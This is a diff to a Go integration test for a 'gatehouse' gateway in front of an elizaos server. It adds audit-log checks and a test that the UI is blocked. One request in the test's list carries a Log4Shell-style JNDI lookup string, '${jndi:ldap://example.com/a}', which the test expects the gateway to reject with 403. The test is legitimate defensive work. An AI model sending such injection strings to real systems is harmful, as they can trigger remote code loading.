@@ -59,6 +59,7 @@ func TestElizaExample(t *testing.T) {
 		"/etc/gatehouse/gatehouse.env":       write("gatehouse.env", example(t, "elizaos/gatehouse.env", map[string]string{"\nGATEHOUSE_PEPPER=\n": "\nGATEHOUSE_PEPPER=" + pepper + "\n"})),
 		"/var/lib/gatehouse/keys.json":       keys,
 		"/var/log/gatehouse/security.log":    filepath.Join(dir, "security.log"),
+		"/var/log/gatehouse/audit.log":       filepath.Join(dir, "audit.log"),
 		"/var/log/gatehouse/access.log":      filepath.Join(dir, "access.log"),
 		"gatehouse elizaos 127.0.0.1:3000 {": fmt.Sprintf("gatehouse elizaos 127.0.0.1:%d {", e.Port),
 	})
@@ -83,6 +84,7 @@ func TestElizaExample(t *testing.T) {
 		{"GET", "/api/server/logs", clientKey, 200},
 		{"GET", "/api/agents?x=${jndi:ldap://example.com/a}", clientKey, 403},
 		{"GET", "/healthz", "", 200},
+		{"GET", "/", clientKey, 403}, // the UI is off
 	} {
 		request, err := http.NewRequest(visit.method, fmt.Sprintf("https://%s:%d%s", domain, config.HTTPSPort, visit.path), nil)
 		if err != nil {
@@ -101,7 +103,10 @@ func TestElizaExample(t *testing.T) {
 		}
 	}
 	g.Stop()
-	for name, want := range map[string]string{"security.log": "WARN: [SECURITY] Unauthorized access attempt from 127.0.0.1", "access.log": `"uri":"/api/agents"`} {
+	if out, status := house.RunGate(t, house.GateConfig{}, "", "audit", "verify", filepath.Join(dir, "audit.log")); status != 0 {
+		t.Errorf("the audit trail: %d %s", status, out)
+	}
+	for name, want := range map[string]string{"audit.log": `"key_id":"reader"`, "security.log": "WARN: [SECURITY] Unauthorized access attempt from 127.0.0.1", "access.log": `"uri":"/api/agents"`} {
 		text, err := os.ReadFile(filepath.Join(dir, name))
 		if err != nil || !strings.Contains(string(text), want) {
 			t.Errorf("%s does not have %s: %v\n%s", name, want, err, text)
